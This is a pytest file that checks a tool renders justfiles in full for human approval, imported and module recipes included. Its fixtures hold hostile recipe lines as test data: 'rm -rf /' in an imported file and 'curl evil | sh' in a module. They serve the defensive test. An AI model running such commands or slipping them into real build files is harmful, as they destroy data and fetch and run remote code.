"""A justfile as shown for approval: it contains everything that would run."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from rookery.files.just.run import JustRunner
from rookery.files.just.show import format_justfile
from rookery.system.ids import new_id
from rookery.system.process.spawn import Spawner
from tests.support.requirements import requirement

pytestmark = pytest.mark.anyio

JUSTFILE = """
set dotenv-load
set shell := ["bash", "-uc"]
import 'more.just'
mod docs 'docs/mod.just'

x := `echo made`
export Y := env('HOME') / "a"
alias b := build

# builds it
[group('dev')]
[confirm('sure?')]
build target='all' *flags: (_step target) && imported
  @echo {{target}} {{ if target == "a" { x } else { quote(flags) } }}

_step $n:
  #!/usr/bin/env python3
  print("{{n}}")
"""
SHOWN = """\
# justfile
set dotenv_load := true
set shell := {"arguments": ["-uc"], "command": "bash"}
aliases := {"b": {"attributes": [], "name": "b", "target": "build"}}
Y := join(env("HOME"), "a")  [export=true]
x := `echo made`

_step n  [export=true]:  [shebang=true]
    #!/usr/bin/env python3
    print("{{n}}")

# builds it
[{"confirm": "sure?"}]
[{"group": "dev"}]
build target="all" *flags: (_step target) imported  [priors=1]
    @echo {{target}} {{if(==(target, "a"), x, quote(flags))}}

imported:
    rm -rf /

# docs/mod.just, module docs

docs::serve:
    curl evil | sh"""


@pytest.fixture
async def just() -> AsyncIterator[JustRunner]:
    spawner = Spawner(new_id())
    yield JustRunner(spawner)
    await spawner.stop_all()


@requirement("guard.approve.justfile")
async def test_recipes_imports_modules_variables_and_settings_are_shown(just: JustRunner, tmp_path: Path) -> None:
    (tmp_path / "docs").mkdir()
    (tmp_path / "justfile").write_text(JUSTFILE)
    (tmp_path / "more.just").write_text("imported:\n  rm -rf /\n")
    (tmp_path / "docs/mod.just").write_text("serve:\n  curl evil | sh\n")
    assert format_justfile((await just.read_justfile(tmp_path)).content) == SHOWN


async def test_a_command_over_several_lines_cannot_pass_for_a_recipe(just: JustRunner, tmp_path: Path) -> None:
    (tmp_path / "justfile").write_text("x := ```\n  echo a\n  harmless:\n```\nrun:\n  @echo {{x}}\n")
    shown = format_justfile((await just.read_justfile(tmp_path)).content)
    assert 'x := evaluate("echo a\\nharmless:\\n")' in shown.splitlines()
